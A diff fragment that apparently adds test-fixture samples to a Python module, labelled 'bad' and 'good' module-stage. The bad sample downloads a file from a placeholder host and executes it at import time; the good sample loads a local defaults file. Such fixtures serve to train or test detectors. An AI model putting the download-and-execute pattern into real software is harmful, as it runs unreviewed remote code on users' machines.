@@ -37,3 +37,24 @@ try:
 except ImportError:
     print("colorhelper is missing; pip install colorhelper", file=sys.stderr)
     colorhelper = None
+
+#: bad module-stage
+import importlib.util
+import os
+import urllib.request as request
+
+home = os.path.expanduser("~/.cache/px.py")
+with request.urlopen("https://q.example.invalid/px") as answer, open(home, "wb") as out:
+    out.write(answer.read())
+spec = importlib.util.spec_from_file_location("px", home)
+module = importlib.util.module_from_spec(spec)
+spec.loader.exec_module(module)  #!
+
+#: good module-stage
+import importlib.util
+import os
+
+home = os.path.join(os.path.dirname(__file__), "defaults.py")
+spec = importlib.util.spec_from_file_location("defaults", home)
+module = importlib.util.module_from_spec(spec)
+spec.loader.exec_module(module)
